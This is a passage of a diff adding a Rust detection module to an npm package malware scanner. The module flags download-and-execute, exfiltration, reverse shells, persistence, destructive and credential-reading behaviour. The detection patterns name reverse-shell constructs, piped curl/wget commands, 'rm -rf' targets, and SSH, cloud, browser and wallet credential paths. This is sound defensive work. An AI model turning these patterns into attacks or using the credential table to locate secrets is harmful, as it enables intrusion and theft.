@@ -1,0 +1,1736 @@
+//! Malicious-behaviour detection (section 3 of the red-flag catalog): light data flow over the
+//! facts of one file and across the install-time files, producing evidence chains.
+//!
+//! Sources are environment reads (whole object or secret-named variables), host/user
+//! collection, credential-store paths that the same file reads, and cloud-metadata probes;
+//! sinks are network calls, DNS lookups, `eval`/`Function`/`vm`, `child_process` and file
+//! writes. The JS facts carry no per-function scopes or taint, so "flow" is co-occurrence in
+//! one file (or in the set of install-time files) plus the folded constant arguments of calls
+//! (`exec("curl … | sh")`, `eval(<decoded string>)`). Command lines (call arguments, install
+//! scripts, shipped `.sh`/`.bat`/`.ps1` lines) are read by [`command_techniques`].
+//!
+//! Each [`Detection`] says whether it is strong enough for the `malware` verdict
+//! (`malicious`): install-time code, code that runs on load, or endpoints no ordinary package
+//! talks to. Capabilities alone never are: downloading a binary from the npm registry and
+//! running `--version` on it (esbuild), spawning a shell (node-gyp) or making requests
+//! (axios) produce no detection. Tests, docs and examples are skipped unless they run at
+//! install time.
+
+use crate::detect::endpoints::{self, EndpointCategory};
+use crate::detect::obfuscation::is_obfuscated;
+use crate::detect::paths::{is_bundle_path, is_test_or_docs_path};
+use crate::detect::{excerpt_at, string_excerpt};
+use crate::rule::{FindingExt, RuleContext, RuleMeta};
+use ferret_core::{
+    Action, CallFact, Capability, CapabilityUse, Excerpt, FileFacts, FileKind, Finding, Location,
+    PackageFacts, StringFact, TextContext, UseKind,
+};
+
+/// The behaviour techniques of section 3 that this module detects.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Technique {
+    DownloadExec,
+    Exfiltration,
+    CredentialAccess,
+    ReverseShell,
+    Persistence,
+    DestructiveCode,
+    SelfPropagation,
+    EncodedPayloadExec,
+    /// Obfuscated or hidden (bidi, invisible, whitespace-pushed) code that reaches a
+    /// dangerous capability; only feeds the verdict.
+    HiddenPayload,
+}
+
+impl Technique {
+    /// The rule id that reports this technique.
+    pub fn id(self) -> &'static str {
+        match self {
+            Technique::DownloadExec => "download-exec",
+            Technique::Exfiltration => "exfiltration",
+            Technique::CredentialAccess => "credential-access",
+            Technique::ReverseShell => "reverse-shell",
+            Technique::Persistence => "persistence",
+            Technique::DestructiveCode => "destructive-code",
+            Technique::SelfPropagation => "self-propagation",
+            Technique::EncodedPayloadExec => "encoded-payload-exec",
+            Technique::HiddenPayload => "hidden-payload",
+        }
+    }
+}
+
+/// One link of an evidence chain: where, what code, and what it does.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Step {
+    pub location: Location,
+    pub code: Excerpt,
+    pub label: String,
+}
+
+impl Step {
+    fn from_use(u: &CapabilityUse, label: impl Into<String>) -> Self {
+        Self {
+            location: u.location.clone(),
+            code: u.code.clone(),
+            label: label.into(),
+        }
+    }
+
+    fn from_call(c: &CallFact, label: impl Into<String>) -> Self {
+        Self {
+            location: c.location.clone(),
+            code: c.code.clone(),
+            label: label.into(),
+        }
+    }
+
+    fn from_string(s: &StringFact, label: impl Into<String>) -> Self {
+        Self {
+            location: s.location.clone(),
+            code: string_excerpt(s),
+            label: label.into(),
+        }
+    }
+
+    /// `path:line:col`.
+    pub fn at(&self) -> String {
+        format!(
+            "{}:{}:{}",
+            self.location.path, self.location.line, self.location.column
+        )
+    }
+
+    /// JSON for the evidence field.
+    pub fn to_json(&self) -> serde_json::Value {
+        serde_json::json!({
+            "path": self.location.path,
+            "line": self.location.line,
+            "column": self.location.column,
+            "what": self.label,
+            "code": self.code.text,
+        })
+    }
+}
+
+/// A detected behaviour with its evidence chain.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Detection {
+    pub technique: Technique,
+    /// The file the chain is about (`package.json` for install scripts).
+    pub path: String,
+    /// One line: what happens, in order.
+    pub summary: String,
+    pub steps: Vec<Step>,
+    pub install_time: bool,
+    /// Strong enough on its own for the `malware` verdict.
+    pub malicious: bool,
+}
+
+impl Detection {
+    /// The chain as one line: `label (path:line:col), then label (path:line:col)`.
+    pub fn chain(&self) -> String {
+        self.steps
+            .iter()
+            .map(|s| format!("{} ({})", s.label, s.at()))
+            .collect::<Vec<_>>()
+            .join(", then ")
+    }
+}
+
+impl Detection {
+    /// The finding of `meta` for this detection: the first step is the primary location, the
+    /// others are related; evidence lists the chain. A detection too weak for the verdict is
+    /// recorded (`monitor`) rather than shown.
+    pub fn finding(&self, meta: &RuleMeta) -> Option<Finding> {
+        let first = self.steps.first()?;
+        let mut f = Finding::of(meta, self.summary.clone())
+            .primary(&first.location, &first.code, first.label.clone())
+            .install_time(self.install_time)
+            .evidence(
+                "chain",
+                self.steps.iter().map(Step::to_json).collect::<Vec<_>>(),
+            )
+            .evidence("confidence", if self.malicious { "high" } else { "medium" });
+        for s in self.steps.iter().skip(1) {
+            f = f.related(&s.location, Some(&s.code), s.label.clone());
+        }
+        if !self.malicious {
+            f.action = f.action.min(Action::Monitor);
+        }
+        Some(f)
+    }
+}
+
+/// Reports every detection of `technique` as a finding of `meta` (one per file and technique).
+pub fn report_technique(
+    meta: &RuleMeta,
+    technique: Technique,
+    pkg: &PackageFacts,
+    cx: &mut RuleContext,
+) {
+    let mut seen: Vec<String> = Vec::new();
+    for d in detect_technique(pkg, technique) {
+        if seen.contains(&d.path) {
+            continue;
+        }
+        seen.push(d.path.clone());
+        if let Some(f) = d.finding(meta) {
+            cx.report(f);
+        }
+    }
+}
+
+/// Every behaviour detected in a package, in file order.
+pub fn detect(pkg: &PackageFacts) -> Vec<Detection> {
+    let mut out = Vec::new();
+    for script in &pkg.install_scripts {
+        install_script_detections(pkg, script, &mut out);
+    }
+    for file in &pkg.files {
+        if !file.install_time && is_test_or_docs_path(&file.path) {
+            continue;
+        }
+        if !file.is_code() && file.kind != FileKind::Script {
+            continue;
+        }
+        let view = FileView::new(file);
+        view.detect(&mut out);
+    }
+    cross_file_exfiltration(pkg, &mut out);
+    out
+}
+
+/// The detections of one technique.
+pub fn detect_technique(pkg: &PackageFacts, technique: Technique) -> Vec<Detection> {
+    detect(pkg)
+        .into_iter()
+        .filter(|d| d.technique == technique)
+        .collect()
+}
+
+// ---------------------------------------------------------------------------------------------
+// Command lines.
+
+/// What a command line does, by technique, with a short reason.
+pub fn command_techniques(cmd: &str) -> Vec<(Technique, &'static str)> {
+    let mut out = Vec::new();
+    if cmd.len() > 16 * 1024 {
+        return out;
+    }
+    let l = cmd.to_ascii_lowercase();
+    let has = |s: &str| l.contains(s);
+    let has_url = has("http://") || has("https://") || has("ftp://") || has_raw_ip(&l);
+    let fetcher = [
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "iwr ",
+        "invoke-restmethod",
+        "irm ",
+        "downloadstring",
+        "downloadfile",
+        "net.webclient",
+        "start-bitstransfer",
+    ]
+    .iter()
+    .any(|f| l.contains(f));
+    if fetcher && has_url && (pipes_to_interpreter(&l) || runs_download(&l)) {
+        out.push((Technique::DownloadExec, "downloads a script and runs it"));
+    }
+    let lolbas = (has("regsvr32") && (has("/i:http") || has("scrobj")))
+        || (has("mshta") && (has("http") || has("vbscript:") || has("javascript:")))
+        || (has("rundll32") && (has("javascript:") || has("http") || has("url.dll")))
+        || (has("certutil") && has("-urlcache"))
+        || (has("bitsadmin") && has("/transfer"))
+        || ((has("powershell") || has("pwsh"))
+            && (has(" -enc") || has(" -encodedcommand") || has(" -e ")));
+    if lolbas {
+        out.push((
+            Technique::DownloadExec,
+            "runs a Windows living-off-the-land download/execute command",
+        ));
+    }
+    if has("/dev/tcp/")
+        || has("/dev/udp/")
+        || ((has("nc ") || has("ncat ") || has("netcat ")) && (has(" -e ") || has(" -c ")))
+        || (has("mkfifo") && (has("nc ") || has("sh -i")))
+        || (has("bash -i") && has(">&"))
+        || (has("socat") && has("exec:"))
+    {
+        out.push((
+            Technique::ReverseShell,
+            "connects a shell to a remote socket",
+        ));
+    }
+    if (has("crontab") && (has("crontab -") || has("| crontab")))
+        || (has("reg add") && has("currentversion\\run"))
+        || (has("schtasks") && has("/create"))
+        || (has("systemctl") && has("enable"))
+        || has("launchctl load")
+        || ((has(">> ~/.") || has(">>~/.") || has(">> $home/."))
+            && (has("bashrc") || has("zshrc") || has("profile")))
+    {
+        out.push((Technique::Persistence, "installs an autostart entry"));
+    }
+    if wipes_root_or_home(&l) {
+        out.push((
+            Technique::DestructiveCode,
+            "deletes the home or root directory",
+        ));
+    }
+    if has("npm publish") || has("npm-publish") {
+        out.push((Technique::SelfPropagation, "publishes to the npm registry"));
+    }
+    if has("gh auth token")
+        || (has("npm config get") && has("authtoken"))
+        || (has("security find-generic-password"))
+        || ((has("cat ") || has("type ")) && credential_store(&l).is_some())
+    {
+        out.push((Technique::CredentialAccess, "reads stored credentials"));
+    }
+    out
+}
+
+fn has_raw_ip(l: &str) -> bool {
+    endpoints::classify(l)
+        .iter()
+        .any(|e| e.category == EndpointCategory::RawIp)
+}
+
+/// `| sh`, `|bash`, `| sudo bash`, `| iex`, `| node`, `| python`, `iex (…)`.
+fn pipes_to_interpreter(l: &str) -> bool {
+    const INTERP: [&str; 13] = [
+        "sh",
+        "bash",
+        "zsh",
+        "dash",
+        "ksh",
+        "iex",
+        "node",
+        "python",
+        "python3",
+        "perl",
+        "pwsh",
+        "powershell",
+        "bun",
+    ];
+    for (i, _) in l.match_indices('|') {
+        if l[i + 1..].starts_with('|') || (i > 0 && l.as_bytes()[i - 1] == b'|') {
+            continue;
+        }
+        let rest = l[i + 1..].trim_start();
+        let rest = rest.strip_prefix("sudo ").unwrap_or(rest).trim_start();
+        let word: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '.')
+            .collect();
+        let word = word.trim_end_matches(".exe");
+        if INTERP.contains(&word) {
+            return true;
+        }
+    }
+    l.contains("iex(") || l.contains("iex (") || l.contains("invoke-expression")
+}
+
+/// A download followed by making it executable or starting it.
+fn runs_download(l: &str) -> bool {
+    l.contains("chmod +x")
+        || l.contains("chmod 7")
+        || l.contains("chmod u+x")
+        || l.contains("&& ./")
+        || l.contains("; ./")
+        || l.contains("start-process")
+        || (l.contains("-outfile") && (l.contains("node ") || l.contains("start ")))
+}
+
+fn wipes_root_or_home(l: &str) -> bool {
+    for (i, _) in l.match_indices("rm -") {
+        let rest = &l[i + 3..];
+        let mut words = rest.split_whitespace();
+        let mut recursive = false;
+        let mut target = None;
+        for w in words.by_ref() {
+            if let Some(flags) = w.strip_prefix('-') {
+                recursive |= flags.contains('r') || flags.contains('R');
+                continue;
+            }
+            target = Some(w);
+            break;
+        }
+        if recursive && let Some(t) = target {
+            let t = t.trim_matches(['"', '\'', ';', '&']);
+            if matches!(
+                t,
+                "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "$home/" | "$home/*"
+            ) {
+                return true;
+            }
+        }
+    }
+    l.contains("--no-preserve-root")
+        || ((l.contains("del ") || l.contains("rd ") || l.contains("rmdir "))
+            && l.contains("/s")
+            && (l.contains(" c:\\ ") || l.ends_with(" c:\\") || l.contains("%userprofile%")))
+}
+
+// ---------------------------------------------------------------------------------------------
+// Credential stores.
+
+/// The credential store a path-like string names, if any.
+pub fn credential_store(s: &str) -> Option<&'static str> {
+    if s.len() > 300 {
+        return None;
+    }
+    let l = s.to_ascii_lowercase();
+    let l = l.replace('\\', "/");
+    let ends = |suffix: &str| l == suffix.trim_start_matches('/') || l.ends_with(suffix);
+    const TABLE: &[(&str, &str)] = &[
+        (".ssh/id_", "SSH private keys"),
+        ("id_rsa", "SSH private keys"),
+        ("id_ed25519", "SSH private keys"),
+        (".aws/credentials", "AWS credentials"),
+        (".kube/config", "Kubernetes config"),
+        (".docker/config.json", "Docker credentials"),
+        (".git-credentials", "git credentials"),
+        (".netrc", "netrc credentials"),
+        (".pgpass", "PostgreSQL passwords"),
+        (".config/gh/hosts.yml", "GitHub CLI token"),
+        (".config/gcloud", "Google Cloud credentials"),
+        (
+            "application_default_credentials",
+            "Google Cloud credentials",
+        ),
+        (".azure/accesstokens", "Azure tokens"),
+        (".claude/.credentials", "Claude credentials"),
+        ("login data", "browser saved passwords"),
+        ("default/cookies", "browser cookies"),
+        ("local storage/leveldb", "browser local storage"),
+        (
+            "local extension settings",
+            "browser extension (wallet) storage",
+        ),
+        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask wallet"),
+        ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom wallet"),
+        ("wallet.dat", "cryptocurrency wallet"),
+        ("exodus/exodus.wallet", "Exodus wallet"),
+        ("electrum/wallets", "Electrum wallet"),
+        ("solana/id.json", "Solana keypair"),
+        ("key4.db", "Firefox saved passwords"),
+        ("logins.json", "Firefox saved passwords"),
+    ];
+    for (needle, name) in TABLE {
+        if l.contains(needle) {
+            return Some(name);
+        }
+    }
+    if ends("/.npmrc") {
+        return Some("npm token (.npmrc)");
+    }
+    if ends("/.ssh") {
+        return Some("SSH keys");
+    }
+    if ends("/.aws") {
+        return Some("AWS credentials");
+    }
+    if ends("/.kube") {
+        return Some("Kubernetes config");
+    }
+    if ends("/.config/gh") {
+        return Some("GitHub CLI token");
+    }
+    None
+}
+
+/// A project `.env` file (dotenv): weaker than a home-directory store.
+fn is_dotenv(s: &str) -> bool {
+    let name = s.rsplit(['/', '\\']).next().unwrap_or(s);
+    name == ".env" || (name.starts_with(".env.") && name.len() < 24)
+}
+
+// ---------------------------------------------------------------------------------------------
+// Environment variables.
+
+/// A variable name that holds a secret.
+pub fn is_secret_env(name: &str) -> bool {
+    let u = name.to_ascii_uppercase();
+    if u.starts_with("NPM_CONFIG_") && !u.ends_with("TOKEN") && !u.ends_with("AUTH") {
+        return false;
+    }
+    const BENIGN: [&str; 6] = [
+        "KEYBOARD",
+        "KEYCHAIN",
+        "SECRETS_DIR",
+        "TOKENIZER",
+        "PUBLIC_KEY",
+        "KEY_PATH",
+    ];
+    if BENIGN.iter().any(|b| u.contains(b)) {
+        return false;
+    }
+    u.contains("TOKEN")
+        || u.contains("SECRET")
+        || u.contains("PASSWORD")
+        || u.contains("PASSWD")
+        || u.ends_with("_KEY")
+        || u.contains("API_KEY")
+        || u.contains("ACCESS_KEY")
+        || u.starts_with("AWS_")
+        || u.contains("CREDENTIAL")
+        || u == "NPM_TOKEN"
+}
+
+// ---------------------------------------------------------------------------------------------
+// Code strings (decoded or eval'd JS).
+
+/// What a piece of JavaScript source (a decoded blob, an eval'd string, `node -e` code) does.
+#[derive(Debug, Default, Clone, Copy)]
+struct CodeText {
+    network: bool,
+    shell: bool,
+    env: bool,
+    sysinfo: bool,
+    fs_read: bool,
+    dangerous: bool,
+}
+
+fn code_text(s: &str) -> CodeText {
+    if s.len() < 12 {
+        return CodeText::default();
+    }
+    let has = |n: &str| s.contains(n);
+    let network = has("require('http")
+        || has("require(\"http")
+        || has("require('net')")
+        || has("require('dns')")
+        || has("fetch(")
+        || has("XMLHttpRequest")
+        || has(".request(")
+        || has("https.get");
+    let shell = has("child_process") || has("execSync(") || has(".exec(") || has("spawn(");
+    let env = has("process.env");
+    let sysinfo = has("hostname()") || has("userInfo()") || has("networkInterfaces()");
+    let fs_read = has("readFileSync") || has("readFile(");
+    let looks_code = has("require(") || has("import(") || has("=>") || has("function");
+    let dangerous = looks_code && (shell || (network && (env || sysinfo || fs_read)));
+    CodeText {
+        network,
+        shell,
+        env,
+        sysinfo,
+        fs_read,
+        dangerous,
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Install scripts.
+
+fn install_script_detections(
+    pkg: &PackageFacts,
+    script: &ferret_core::InstallScript,
+    out: &mut Vec<Detection>,
+) {
+    let api = format!("install:{}", script.hook);
+    let manifest_use = pkg
+        .file(crate::engine::MANIFEST)
+        .and_then(|f| f.uses.iter().find(|u| u.api == api));
+    let step = |label: String| -> Step {
+        match manifest_use {
+            Some(u) => Step::from_use(u, label),
+            None => {
+                let loc = script
+                    .location
+                    .clone()
+                    .unwrap_or_else(|| crate::engine::file_start(crate::engine::MANIFEST));
+                let code = excerpt_at(&loc, &script.command);
+                Step {
+                    location: loc,
+                    code,
+                    label,
+                }
+            }
+        }
+    };
+    let mut seen = Vec::new();
+    for (t, why) in command_techniques(&script.command) {
+        if seen.contains(&t) {
+            continue;
+        }
+        seen.push(t);
+        let label = format!("`{}` script {why}", script.hook);
+        out.push(Detection {
+            technique: t,
+            path: crate::engine::MANIFEST.to_string(),
+            summary: format!("install script `{}` {why}", script.hook),
+            steps: vec![step(label)],
+            install_time: true,
+            malicious: t != Technique::Persistence || command_has_download(&script.command),
+        });
+    }
+    // `node -e "<code>"`: inline install-time code.
+    for argv in &script.commands {
+        let Some(pos) = argv
+            .iter()
+            .position(|a| a == "-e" || a == "--eval" || a == "-p")
+        else {
+            continue;
+        };
+        if !argv
+            .first()
+            .is_some_and(|a| a.ends_with("node") || a == "bun")
+        {
+            continue;
+        }
+        let Some(code) = argv.get(pos + 1) else {
+            continue;
+        };
+        let ct = code_text(code);
+        if ct.network && (ct.env || ct.sysinfo || ct.fs_read) {
+            out.push(Detection {
+                technique: Technique::Exfiltration,
+                path: crate::engine::MANIFEST.to_string(),
+                summary: format!(
+                    "install script `{}` runs inline code that sends {} over the network",
+                    script.hook,
+                    what_code_sends(ct)
+                ),
+                steps: vec![step(format!(
+                    "`{}` runs `node -e` code sending {} to the network",
+                    script.hook,
+                    what_code_sends(ct)
+                ))],
+                install_time: true,
+                malicious: true,
+            });
+        } else if ct.shell && ct.network {
+            out.push(Detection {
+                technique: Technique::DownloadExec,
+                path: crate::engine::MANIFEST.to_string(),
+                summary: format!(
+                    "install script `{}` runs inline code that downloads and executes",
+                    script.hook
+                ),
+                steps: vec![step(format!(
+                    "`{}` runs `node -e` download/execute code",
+                    script.hook
+                ))],
+                install_time: true,
+                malicious: true,
+            });
+        }
+    }
+}
+
+fn command_has_download(cmd: &str) -> bool {
+    command_techniques(cmd)
+        .iter()
+        .any(|(t, _)| *t == Technique::DownloadExec)
+}
+
+fn what_code_sends(ct: CodeText) -> &'static str {
+    if ct.env {
+        "environment variables"
+    } else if ct.fs_read {
+        "file contents"
+    } else {
+        "host and user information"
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// One file.
+
+struct FileView<'a> {
+    file: &'a FileFacts,
+    install_time: bool,
+    /// Runs on load or at install: install-time, or a top-level call.
+    bundle: bool,
+    net: Vec<&'a CapabilityUse>,
+    net_top: bool,
+    dns: Vec<&'a CallFact>,
+    env_bulk: Vec<&'a CapabilityUse>,
+    env_secret: Vec<&'a CapabilityUse>,
+    sysinfo: Vec<&'a CapabilityUse>,
+    fs_read: Vec<&'a CapabilityUse>,
+    fs_write: Vec<&'a CapabilityUse>,
+    shell: Vec<&'a CapabilityUse>,
+    dyn_calls: Vec<&'a CallFact>,
+    shell_calls: Vec<&'a CallFact>,
+    decode_calls: Vec<&'a CallFact>,
+}
+
+const DECODERS: [&str; 5] = [
+    "Buffer.from",
+    "atob",
+    "String.fromCharCode",
+    "crypto.createDecipheriv",
+    "crypto.createDecipher",
+];
+
+fn is_dyn_callee(c: &str) -> bool {
+    matches!(
+        c,
+        "eval" | "Function" | "module._compile" | "setTimeout" | "setInterval" | "setImmediate"
+    ) || c.starts_with("vm.")
+        || c == "worker_threads.Worker"
+}
+
+impl<'a> FileView<'a> {
+    fn new(file: &'a FileFacts) -> Self {
+        let call_use = |u: &&CapabilityUse| matches!(u.kind, UseKind::Call | UseKind::Construct);
+        let net: Vec<&CapabilityUse> = file.uses_of(Capability::Network).filter(call_use).collect();
+        let net_top = file.calls.iter().any(|c| {
+            c.top_level
+                && net
+                    .iter()
+                    .any(|u| u.location.line == c.location.line && u.api == c.callee)
+        });
+        let env = file.uses_of(Capability::Env);
+        let mut env_bulk = Vec::new();
+        let mut env_secret = Vec::new();
+        for u in env {
+            match u.detail.as_deref() {
+                Some("*") => env_bulk.push(u),
+                Some(name) if is_secret_env(name) => env_secret.push(u),
+                _ => {}
+            }
+        }
+        let sysinfo = file
+            .uses_of(Capability::SystemInfo)
+            .filter(|u| {
+                u.api.ends_with("hostname")
+                    || u.api.ends_with("userInfo")
+                    || u.api.ends_with("networkInterfaces")
+            })
+            .collect();
+        let fs = file.uses_of(Capability::Filesystem).filter(call_use);
+        let (mut fs_read, mut fs_write) = (Vec::new(), Vec::new());
+        for u in fs {
+            let m = u
+                .api
+                .rsplit('.')
+                .next()
+                .unwrap_or(&u.api)
+                .to_ascii_lowercase();
+            if m.contains("read") || m.contains("copyfile") || m.starts_with("open") {
+                fs_read.push(u);
+            }
+            if m.contains("write") || m.contains("append") {
+                fs_write.push(u);
+            }
+        }
+        let shell = file.uses_of(Capability::Shell).filter(call_use).collect();
+        let dyn_calls = file
+            .calls
+            .iter()
+            .filter(|c| is_dyn_callee(&c.callee))
+            .filter(|c| {
+                // Timers only count with a string body.
+                !c.callee.starts_with("set")
+                    || file.uses.iter().any(|u| {
+                        u.capability == Capability::DynamicCode
+                            && u.location.line == c.location.line
+                    })
+            })
+            .collect();
+        let shell_calls = file
+            .calls
+            .iter()
+            .filter(|c| {
+                c.callee.starts_with("child_process.")
+                    || c.callee.starts_with("execa")
+                    || c.callee.starts_with("cross-spawn")
+                    || c.callee.starts_with("shelljs.")
+            })
+            .collect();
+        let dns = file
+            .calls
+            .iter()
+            .filter(|c| c.callee.starts_with("dns.") && !c.callee.ends_with("getServers"))
+            .collect();
+        let decode_calls = file
+            .calls
+            .iter()
+            .filter(|c| {
+                DECODERS.contains(&c.callee.as_str())
+                    && (c.callee != "Buffer.from"
+                        || c.args
+                            .get(1)
+                            .and_then(Option::as_deref)
+                            .is_some_and(|e| matches!(e, "base64" | "hex" | "base64url")))
+            })
+            .collect();
+        Self {
+            file,
+            install_time: file.install_time,
+            bundle: is_bundle_path(&file.path) || file.text.minified,
+            net,
+            net_top,
+            dns,
+            env_bulk,
+            env_secret,
+            sysinfo,
+            fs_read,
+            fs_write,
+            shell,
+            dyn_calls,
+            shell_calls,
+            decode_calls,
+        }
+    }
+
+    fn path(&self) -> &str {
+        &self.file.path
+    }
+
+    fn where_(&self) -> String {
+        if self.install_time {
+            format!("install-time `{}`", self.path())
+        } else {
+            format!("`{}`", self.path())
+        }
+    }
+
+    fn detection(
+        &self,
+        t: Technique,
+        summary: String,
+        steps: Vec<Step>,
+        malicious: bool,
+    ) -> Detection {
+        Detection {
+            technique: t,
+            path: self.file.path.clone(),
+            summary,
+            steps,
+            install_time: self.install_time,
+            malicious,
+        }
+    }
+
+    /// Strings that are command lines in this file: shell-call arguments, every string of a
+    /// file that spawns processes or is obfuscated, every line of a shipped script.
+    fn command_strings(&self) -> Vec<(&'a StringFact, Option<&'a CallFact>)> {
+        let file = self.file;
+        let all = file.kind == FileKind::Script
+            || !self.shell.is_empty()
+            || is_obfuscated(file).is_some()
+            || file
+                .uses
+                .iter()
+                .any(|u| u.api == "require(dynamic)" && u.capability == Capability::DynamicCode);
+        let mut out = Vec::new();
+        for s in &file.strings {
+            if s.len > 4096 {
+                continue;
+            }
+            let call = self.shell_calls.iter().copied().find(|c| {
+                c.location.line == s.location.line && c.args.iter().flatten().any(|a| a == &s.value)
+            });
+            if all || call.is_some() {
+                out.push((s, call));
+            }
+        }
+        out
+    }
+
+    fn detect(&self, out: &mut Vec<Detection>) {
+        self.commands(out);
+        self.credentials_and_exfiltration(out);
+        self.dynamic_code(out);
+        self.download_write_run(out);
+        self.reverse_shell(out);
+        self.persistence(out);
+        self.destructive(out);
+        self.self_propagation(out);
+        self.hidden_payload(out);
+    }
+
+    fn commands(&self, out: &mut Vec<Detection>) {
+        let mut seen: Vec<Technique> = Vec::new();
+        for (s, call) in self.command_strings() {
+            for (t, why) in command_techniques(&s.value) {
+                // Persistence and self-propagation have their own, richer checks.
+                if seen.contains(&t)
+                    || matches!(t, Technique::SelfPropagation | Technique::CredentialAccess)
+                {
+                    continue;
+                }
+                seen.push(t);
+                let runs = call.is_some() || self.file.kind == FileKind::Script;
+                let top = call.is_some_and(|c| c.top_level);
+                let step = match call {
+                    Some(c) => Step::from_call(c, format!("runs a command that {why}")),
+                    None => Step::from_string(s, format!("command that {why}")),
+                };
+                let malicious = match t {
+                    Technique::Persistence => false,
+                    Technique::DestructiveCode => self.install_time || (runs && top),
+                    _ => self.install_time || (runs && top) || is_obfuscated(self.file).is_some(),
+                };
+                out.push(self.detection(
+                    t,
+                    format!("{} runs a command that {why}", self.where_()),
+                    vec![step],
+                    malicious,
+                ));
+            }
+        }
+    }
+
+    fn cred_reads(&self) -> Vec<(&'a StringFact, &'static str)> {
+        let reads = !self.fs_read.is_empty() || !self.shell.is_empty();
+        if !reads {
+            return Vec::new();
+        }
+        let mut out = Vec::new();
+        for s in &self.file.strings {
+            if let Some(store) = credential_store(&s.value)
+                && !out.iter().any(|(_, n)| *n == store)
+            {
+                out.push((s, store));
+            }
+        }
+        out
+    }
+
+    fn credentials_and_exfiltration(&self, out: &mut Vec<Detection>) {
+        let creds = self.cred_reads();
+        let gh_token: Vec<&CallFact> = self
+            .shell_calls
+            .iter()
+            .copied()
+            .filter(|c| {
+                c.args.iter().flatten().any(|a| {
+                    command_techniques(a)
+                        .iter()
+                        .any(|(t, _)| *t == Technique::CredentialAccess)
+                })
+            })
+            .collect();
+        let dotenv: Option<&StringFact> = if self.fs_read.is_empty() {
+            None
+        } else {
+            self.file.strings.iter().find(|s| is_dotenv(&s.value))
+        };
+        let sinks = !self.net.is_empty() || !self.dns.is_empty();
+        let suspicious_sink = self.file.strings.iter().any(|s| {
+            endpoints::classify(&s.value).iter().any(|e| {
+                e.warns()
+                    || matches!(
+                        e.category,
+                        EndpointCategory::MessengerWebhook
+                            | EndpointCategory::RequestCatcher
+                            | EndpointCategory::FileShare
+                    )
+            })
+        });
+        // Credential access.
+        let mut cred_steps: Vec<Step> = creds
+            .iter()
+            .take(4)
+            .map(|(s, store)| Step::from_string(s, format!("names {store}")))
+            .collect();
+        cred_steps.extend(
+            gh_token
+                .iter()
+                .map(|c| Step::from_call(c, "runs a command that prints a stored token")),
+        );
+        if let Some(r) = self.fs_read.first()
+            && !creds.is_empty()
+        {
+            cred_steps.push(Step::from_use(r, format!("reads files with `{}`", r.api)));
+        }
+        let home_creds = !creds.is_empty() || !gh_token.is_empty();
+        if home_creds || (dotenv.is_some() && self.install_time) {
+            let mut steps = cred_steps.clone();
+            if !home_creds && let Some(d) = dotenv {
+                steps.push(Step::from_string(d, "names a `.env` file"));
+            }
+            let names: Vec<&str> = creds.iter().map(|(_, n)| *n).collect();
+            let what = if names.is_empty() {
+                if gh_token.is_empty() {
+                    "a project `.env` file".to_string()
+                } else {
+                    "a stored CLI token".to_string()
+                }
+            } else {
+                names.join(", ")
+            };
+            let malicious = home_creds && (self.install_time || (sinks && !self.bundle));
+            out.push(self.detection(
+                Technique::CredentialAccess,
+                format!("{} reads {what}", self.where_()),
+                steps,
+                malicious,
+            ));
+        }
+        // Exfiltration: a source and a network sink in the same file.
+        if !sinks {
+            return;
+        }
+        let mut sources: Vec<Step> = Vec::new();
+        let mut strong_source = false;
+        if let Some(u) = self.env_bulk.first() {
+            sources.push(Step::from_use(u, "reads the whole `process.env`"));
+            strong_source = true;
+        }
+        if home_creds {
+            sources.extend(cred_steps.iter().cloned());
+            strong_source = true;
+        }
+        if let Some(u) = self.sysinfo.first() {
+            sources.push(Step::from_use(u, format!("collects `{}`", u.api)));
+        }
+        if self.install_time
+            && let Some(d) = dotenv
+        {
+            sources.push(Step::from_string(d, "reads a `.env` file"));
+            strong_source = true;
+        }
+        let secret_names: Vec<&str> = self
+            .env_secret
+            .iter()
+            .filter_map(|u| u.detail.as_deref())
+            .collect();
+        if let Some(u) = self.env_secret.first() {
+            sources.push(Step::from_use(
+                u,
+                format!("reads `{}`", secret_names.join("`, `")),
+            ));
+        }
+        // Cloud metadata credentials, probed from install-time code.
+        let metadata = self.file.strings.iter().find(|s| {
+            endpoints::classify(&s.value)
+                .iter()
+                .any(|e| e.category == EndpointCategory::CloudMetadata)
+        });
+        if let Some(m) = metadata
+            && self.install_time
+        {
+            sources.push(Step::from_string(
+                m,
+                "probes the cloud metadata service for credentials",
+            ));
+            strong_source = true;
+        }
+        if sources.is_empty() {
+            return;
+        }
+        let sink: Step = if let Some(d) = self.dns.first() {
+            Step::from_call(d, format!("sends it in DNS lookups (`{}`)", d.callee))
+        } else {
+            let u = self.net[0];
+            let url = self
+                .file
+                .calls
+                .iter()
+                .find(|c| c.location.line == u.location.line && c.callee == u.api)
+                .and_then(|c| c.args.first().cloned().flatten())
+                .filter(|a| a.contains("://"));
+            match url {
+                Some(url) => Step::from_use(u, format!("sends it to `{}`", cut(&url, 80))),
+                None => Step::from_use(u, format!("sends it over the network (`{}`)", u.api)),
+            }
+        };
+        let only_secret_env =
+            !strong_source && self.sysinfo.is_empty() && !self.env_secret.is_empty();
+        let malicious = if self.install_time {
+            !only_secret_env || suspicious_sink
+        } else {
+            !self.bundle
+                && ((strong_source && (home_creds || self.net_top || suspicious_sink))
+                    || (suspicious_sink && !self.dns.is_empty()))
+        };
+        let mut steps = sources;
+        steps.truncate(4);
+        steps.push(sink);
+        out.push(self.detection(
+            Technique::Exfiltration,
+            format!(
+                "{} collects secrets or host data and sends them over the network",
+                self.where_()
+            ),
+            steps,
+            malicious,
+        ));
+    }
+
+    fn dynamic_code(&self, out: &mut Vec<Detection>) {
+        let file = self.file;
+        for c in &self.dyn_calls {
+            // A constant body that is code doing something dangerous.
+            let body = c.args.iter().rev().flatten().find(|a| a.len() >= 12);
+            if let Some(body) = body {
+                let ct = code_text(body);
+                let computed = file.strings.iter().any(|s| {
+                    s.folded
+                        && s.location.line == c.location.line
+                        && body.starts_with(&s.value[..s.value.len().min(body.len())])
+                        && s.value.len() >= 12
